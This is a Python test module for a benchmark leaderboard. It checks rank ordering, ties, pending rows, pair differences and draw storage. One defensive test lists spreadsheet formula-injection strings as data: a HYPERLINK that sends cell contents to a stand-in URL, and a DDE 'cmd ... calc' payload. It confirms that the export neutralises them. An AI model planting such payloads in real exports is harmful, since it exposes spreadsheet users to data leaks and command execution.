"""Ranks of boards that are large, unfinished or odd, from made-up draws."""

from __future__ import annotations

from collections.abc import Mapping
from datetime import UTC, datetime
from typing import Any
from uuid import UUID, uuid4

import numpy as np
import pytest

from evaluator.bundle import Benchmark, BootstrapPlan
from evaluator.families import FAMILIES
from evaluator.family import FloatArray
from portal.exchange.storage import open_store
from portal.leaderboard.assembly import assemble_board
from portal.leaderboard.disclosure import Number
from portal.leaderboard.material import Material, MaterialRow
from tests.conftest import Stores
from worker.draws import StoredDraws, store_draws
from worker.standings import NEIGHBOURS, differences_of, standings_of

HOI = FAMILIES["hoi_choice"]
ADDRESSES = (("all", "macro_f1"), ("all", "abstention_rate"), ("rare", "recall"))
B = 300


def row(
    system: str, value: float | None, *, kind: str = "entrant", low: bool = True
) -> MaterialRow:
    number = Number(
        value=value,
        reason=None if value is not None else "nothing to count",
        low=value - 0.05 if value is not None and low else None,
        high=value + 0.05 if value is not None and low else None,
        n=500,
        n_clusters=400,
    )
    return MaterialRow(
        system=system,
        name=system.upper(),
        kind=kind,  # type: ignore[arg-type]
        provenance="submitted",
        provenance_text="",
        team="",
        facets={},
        url="",
        submitted_at=None,
        submission=None,
        evaluation=uuid4(),
        intervals="ready" if low else "pending",
        draws_digest="",
        scores=dict.fromkeys(ADDRESSES, number),
    )


def material(*rows: MaterialRow) -> Material:
    benchmark = Benchmark(
        name="made-up",
        title="Made up",
        family="hoi_choice",
        version="1",
        tracks=(),
        rules="paper",
        cluster="image",
        bootstrap=BootstrapPlan(draws=B, seed=1),
    )
    return Material(
        version_id=UUID(int=1),
        benchmark=benchmark,
        state="OPEN",
        track="all-people",
        track_title="All people",
        answers="public",
        note="",
        tracks=(),
        rows=rows,
        reported_differences=(),
        last_scored_at=None,
        generated_at=datetime(2026, 1, 1, tzinfo=UTC),
        fingerprint="",
    )


class MadeUpDraws(StoredDraws):
    """The same draws at every address."""

    def __init__(self, values: FloatArray) -> None:
        self._values = values

    def of_slice(self, slice_: str) -> dict[str, FloatArray]:
        return {metric: self._values for name, metric in ADDRESSES if name == slice_}


def drawn(rows: tuple[MaterialRow, ...], spread: float = 0.005) -> Mapping[str, StoredDraws]:
    chance = np.random.default_rng(3)
    return {
        row.system: MadeUpDraws(
            (row.scores["all", "macro_f1"].value or 0.0) + spread * chance.standard_normal(B)
        )
        for row in rows
    }


def test_order_of_rows_is_irrelevant_to_ranks() -> None:
    rows = tuple(row(f"s{number}", 0.5 + number / 50) for number in range(6))
    forth = standings_of(material(*rows), HOI, drawn(rows), {"all"})
    back = standings_of(material(*rows[::-1]), HOI, drawn(rows), {"all"})
    assert forth["all", "macro_f1"].places == back["all", "macro_f1"].places
    places = forth["all", "macro_f1"].places
    assert [places[f"s{number}"].rank for number in range(6)] == [6, 5, 4, 3, 2, 1]
    assert all(p.low is not None and p.low <= p.rank <= (p.high or 0) for p in places.values())


def test_lower_is_better_turns_the_order_round() -> None:
    rows = (row("few", 0.1), row("many", 0.4))
    places = standings_of(material(*rows), HOI, drawn(rows), {"all"})[
        "all", "abstention_rate"
    ].places
    assert (places["few"].rank, places["many"].rank) == (1, 2)


def test_none_has_no_place_and_pending_widens_the_others() -> None:
    rows = (row("a", 0.9), row("b", 0.6), row("late", 0.7, low=False), row("none", None))
    ready = drawn(rows[:2])
    places = standings_of(material(*rows), HOI, ready, {"all"})["all", "macro_f1"].places
    assert set(places) == {"a", "b", "late"}
    assert (places["late"].rank, places["late"].low, places["late"].high) == (2, None, None)
    assert (places["a"].low, places["a"].high) == (1, 2)
    assert (places["b"].rank, places["b"].low, places["b"].high) == (3, 2, 3)


def test_a_single_system_and_none_at_all() -> None:
    alone = (row("only", 0.5),)
    place = standings_of(material(*alone), HOI, drawn(alone), {"all"})["all", "macro_f1"]
    assert place.minimum_detectable is None
    assert place.places["only"].rank == place.places["only"].high == 1
    assert standings_of(material(), HOI, {}, {"all", "rare"}) == {}
    board = assemble_board(material(), {})
    assert board["rows"] == [] and board["slices"] == []


def test_trivial_rows_are_compared_but_not_ranked() -> None:
    rows = (row("a", 0.9), row("all-letters", 0.95, kind="trivial"))
    draws = drawn(rows)
    places = standings_of(material(*rows), HOI, draws, {"all"})["all", "macro_f1"].places
    assert set(places) == {"a"}
    (pair,) = differences_of(material(*rows), HOI, draws, set())
    assert pair == ("a", "all-letters")


def test_ties_share_a_rank_and_are_never_merged_with_the_unresolved() -> None:
    rows = (row("a", 0.6), row("b", 0.6), row("c", 0.599))
    draws = drawn(rows, spread=0.02)
    places = standings_of(material(*rows), HOI, draws, {"all"})["all", "macro_f1"].places
    assert [places[s].rank for s in "abc"] == [1, 1, 3]
    assert places["b"].unresolved_from_next  # marked, and still another rank


def test_pairs_that_are_kept_are_not_computed_again() -> None:
    rows = tuple(row(system, 0.5) for system in "abc")
    draws = drawn(rows)
    assert set(differences_of(material(*rows), HOI, draws, {("a", "b")})) == {
        ("a", "c"),
        ("b", "c"),
    }


def test_beyond_200_systems_differences_are_kept_for_neighbours() -> None:
    rows = tuple(row(f"s{number:03d}", 0.3 + number / 1000) for number in range(210))
    pairs = differences_of(material(*rows), HOI, drawn(rows), set())
    assert len(pairs) == sum(min(NEIGHBOURS, 209 - number) for number in range(210))
    assert ("s000", "s005") in pairs and ("s000", "s006") not in pairs


def test_draws_come_back_as_they_were_stored(stores: Stores) -> None:
    draws = np.random.default_rng(1).random((B, 3))
    draws[4, 2] = np.nan
    with stores.acting_as("scoring"):
        store = open_store("outcomes")
        digest = store_draws(store, ADDRESSES, draws)
        assert store_draws(store, ADDRESSES, draws) == digest
        found = StoredDraws(store, digest)
        np.testing.assert_array_equal(found.of_slice("all")["abstention_rate"], draws[:, 1])
        np.testing.assert_array_equal(found.of_slice("rare")["recall"], draws[:, 2])
        assert found.of_slice("no-such") == {}


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://e/"&A1)', "@SUM(1)", "+1", "-1+cmd|' /C calc'!A0", "\t=1", "|x", "＝1"],
)
def test_every_formula_start_is_disarmed(name: str) -> None:
    from portal.leaderboard.export import safe_cell

    assert safe_cell(name) == "'" + name


def facts(board: dict[str, Any]) -> dict[str, Any]:
    return {row["system"]: row["scores"]["all"]["macro_f1"] for row in board["rows"]}


def test_a_group_of_one_has_no_best() -> None:
    from dataclasses import replace

    rows = tuple(
        replace(row(s, value), facets={"size": size})
        for s, value, size in (("a", 0.9, "large"), ("b", 0.8, "small"), ("c", 0.7, "small"))
    )
    shown = facts(assemble_board(material(*rows), {}))
    assert shown["a"]["best"] and shown["a"]["best_in_group"] == []
    assert shown["b"]["best_in_group"] == ["size:small"]
